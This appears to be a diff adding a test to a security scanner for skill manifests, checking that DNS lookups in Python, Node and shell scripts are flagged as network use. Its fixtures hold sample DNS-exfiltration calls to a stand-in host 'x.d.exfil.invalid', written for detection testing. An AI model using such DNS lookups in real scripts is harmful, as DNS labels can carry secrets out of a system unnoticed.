@@ -84,3 +84,14 @@ describe("manifest: interpreter grants on a skill that ships scripts for them", 
     expect(outcome.findings.filter((f) => f.ruleId === "manifest.unrestricted-tool").map((f) => f.severity)).toEqual(["high", "high"]);
   });
 });
+
+describe("manifest: name lookups are network use", () => {
+  it("flags socket.gethostbyname, dns.lookup and dig (DNS labels can carry data out)", async () => {
+    const { by } = await run({
+      "scripts/p.py": 'import socket\nsocket.gethostbyname("x.d.exfil.invalid")\n',
+      "scripts/p.js": 'const dns = require("dns");\ndns.lookup("x.d.exfil.invalid", () => {});\n',
+      "scripts/p.sh": "dig +short x.d.exfil.invalid\n",
+    });
+    expect(by).toMatchObject({ "manifest.inferred-network@scripts/p.py": "info", "manifest.inferred-network@scripts/p.js": "info", "manifest.inferred-network@scripts/p.sh": "info" });
+  });
+});
